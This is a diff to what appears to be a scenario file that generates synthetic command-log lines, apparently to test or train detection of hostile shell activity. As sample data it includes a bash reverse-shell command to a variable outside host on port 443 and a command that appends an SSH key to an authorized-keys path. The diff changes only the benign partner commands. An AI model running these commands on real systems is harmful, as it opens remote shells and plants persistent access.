@@ -57,7 +57,7 @@ export default defineScenario({
           user: either(service, 'root'),
           cmd: either(
             `sh -c 'echo ssh-ed25519 AAAA... ops@team >> ${path}'`,
-            `apply --role ssh-keys --limit ${user}`,
+            `sh -c 'apply --role ssh-keys --limit ${user} && echo ok >> /var/log/config-agent.log'`,
           ),
         },
         ['{user} pid={pid} euid={euid}: {cmd}', '{cmd} (parent {ppid})'],
@@ -169,7 +169,10 @@ export default defineScenario({
           pid: make.pid('cmd'),
           uid: either(0, make.uid('u')),
           user,
-          cmd: either('bash -i >& /dev/tcp/' + outside + '/443 0>&1', 'sudo systemctl reload app'),
+          cmd: either(
+            'bash -i >& /dev/tcp/' + outside + '/443 0>&1',
+            'bash -c "curl -s http://localhost/health"',
+          ),
           tty: either('unknown', 'pts/0'),
         },
         ['{user} tty={tty}: {cmd}', '{cmd} by {user}'],
